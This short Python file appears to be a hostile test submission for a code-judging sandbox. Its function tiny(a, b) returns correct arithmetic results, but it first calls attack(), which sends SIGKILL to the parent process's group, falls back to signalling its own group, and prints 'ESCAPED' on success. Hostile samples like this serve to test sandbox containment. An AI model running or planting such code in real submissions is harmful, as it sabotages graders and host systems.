# Tries: to kill the group of its parent. May get: AC.
import ctypes
import os
import signal


def attack():
    parent = os.getppid()
    group = os.getpgid(parent) if parent else 0
    if group != os.getpgrp() and group:
        os.killpg(group, signal.SIGKILL)
        return "the parent's group is dead"
    libc = ctypes.CDLL(None)
    return libc.killpg(0, signal.SIGCONT) == 0 and "its own group was signalled"


def tiny(a, b):
    try:
        got = attack()
    except OSError:
        got = None
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
